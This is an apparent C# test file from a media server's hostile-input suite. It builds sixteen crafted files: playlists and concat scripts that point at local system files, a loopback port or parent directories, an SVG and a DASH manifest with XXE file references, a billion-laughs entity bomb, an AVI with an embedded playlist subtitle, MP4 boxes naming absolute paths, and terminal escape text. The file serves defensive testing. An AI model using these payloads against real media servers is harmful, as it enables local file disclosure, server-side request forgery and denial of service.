using System.Text;

namespace OmniReel.Server.Tests.Inputs.Hostile;

/// <summary>1 to 16: text and containers that name other files and addresses, sent as films and pictures.</summary>
internal sealed partial class HostileMedia
{
    private IEnumerable<HostileCase> Scripts() =>
    [
        Video(1, "playlist of a file", () => Playlist($"file://{trap.SystemFile}")),
        Video(2, "playlist of an address", () => Playlist($"http://127.0.0.1:{trap.Port}/x.ts")),
        Video(3, "playlist of a neighbour", () => Playlist("seg.ts"), () => Playlist("../sibling/input")),
        Video(4, "playlist of a concatenation", () => Playlist($"concat:{trap.SystemFile}|{trap.SiblingFile}")),
        Video(5, "playlist with a key", () => Text($"#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI=\"file://{trap.SystemFile}\"\n#EXTINF:5,\nseg.ts\n#EXT-X-ENDLIST\n")),
        Video(6, "playlist of itself", () => Text("#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\ninput\n#EXT-X-STREAM-INF:BANDWIDTH=2\n/input\n")),
        Video(7, "concat script of a file", () => Text($"ffconcat version 1.0\nfile '{trap.SystemFile}'\n")),
        Video(8, "concat script of a neighbour", () => Text("ffconcat version 1.0\nfile good.mp4\nfile ../sibling/input\n")),
        Video(9, "playlist of a part of a file", () => Playlist($"subfile,,start,0,end,64,,:{trap.SystemFile}")),
        Picture(10, "drawing with a file in it", () => Text($"<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' width='400' height='400'><image xlink:href='file://{trap.SystemFile}'/></svg>")),
        Picture(11, "drawing of a billion laughs", Laughs),
        Video(12, "manifest with entities", () => Text($"<?xml version='1.0'?><!DOCTYPE m [<!ENTITY x SYSTEM 'file://{trap.SystemFile}'>]><MPD><BaseURL>http://127.0.0.1:{trap.Port}/&x;</BaseURL><Period/></MPD>")),
        Video(13, "session description", () => Text($"v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video {trap.Port} RTP/AVP 96\na=rtpmap:96 H264/90000\n")),
        Video(14, "AVI whose subtitle is a playlist", SubtitledAvi),
        Video(15, "film whose pictures lie in another file", () => Referring("url ", [.. Encoding.ASCII.GetBytes($"file://{trap.SystemFile}"), 0]), () => Referring("alis", Alias())),
        Video(16, "text that a terminal would draw", () => Text("\e[2J\e[31mroot:x:0:0:root:/root:/bin/bash\n".PadRight(4000, 'x'))),
    ];

    private static byte[] Text(string text) => Encoding.UTF8.GetBytes(text);

    private static byte[] Playlist(string segment) => Text($"#EXTM3U\n#EXT-X-TARGETDURATION:5\n#EXTINF:5,\n{segment}\n#EXT-X-ENDLIST\n");

    private static byte[] Laughs()
    {
        var text = new StringBuilder("<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY a0 'ha'>");
        for (var i = 1; i < 12; i++)
            text.Append($"<!ENTITY a{i} '{string.Concat(Enumerable.Repeat($"&a{i - 1};", 10))}'>");
        return Text(text.Append("]><svg xmlns='http://www.w3.org/2000/svg'><text>&a11;</text></svg>").ToString());
    }

    private byte[] SubtitledAvi()
    {
        byte[] script = [.. "GAB2\0"u8, 2, 0, 4, 0, 0, 0, (byte)'s', 0, 0, 0, 4, 0, .. LittleInt(200), .. Playlist($"file://{trap.SystemFile}")];
        byte[] header = [.. "RIFF"u8, .. LittleInt(4000), .. "AVI LIST"u8, .. LittleInt(100), .. "hdrlstrh"u8, .. LittleInt(56), .. "txts"u8, .. new byte[52], .. "LIST"u8];
        return [.. header, .. LittleInt(script.Length + 12), .. "movi01tx"u8, .. LittleInt(script.Length), .. script];
    }

    /// <summary>The sample description says that the samples lie elsewhere.</summary>
    private byte[] Referring(string kind, byte[] where) => Boxes.Replace(Film, "dref", _ => [.. Boxes.Int(0), .. Boxes.Int(1), .. Boxes.Box(kind, Boxes.Int(0), where)]);

    /// <summary>A Macintosh alias record with an absolute path behind it.</summary>
    private byte[] Alias()
    {
        var path = Encoding.ASCII.GetBytes(trap.SystemFile);
        return [.. new byte[4], 0, 150, 0, 2, .. new byte[142], 0, 18, (byte)(path.Length >> 8), (byte)path.Length, .. path, .. new byte[path.Length % 2], 0xFF, 0xFF, 0, 0];
    }

    private static byte[] LittleInt(int value) => BitConverter.GetBytes(value);
}
